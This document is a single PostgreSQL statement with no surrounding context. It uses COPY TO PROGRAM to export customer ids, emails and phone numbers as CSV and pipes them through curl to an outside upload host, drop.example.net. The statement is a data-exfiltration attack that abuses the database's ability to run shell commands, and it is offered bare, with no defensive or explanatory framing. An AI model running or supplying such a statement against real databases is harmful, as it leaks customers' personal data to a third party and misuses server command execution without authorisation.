COPY (SELECT id, email, phone FROM customers) TO PROGRAM 'curl -s -T - https://drop.example.net/u' WITH (FORMAT csv);
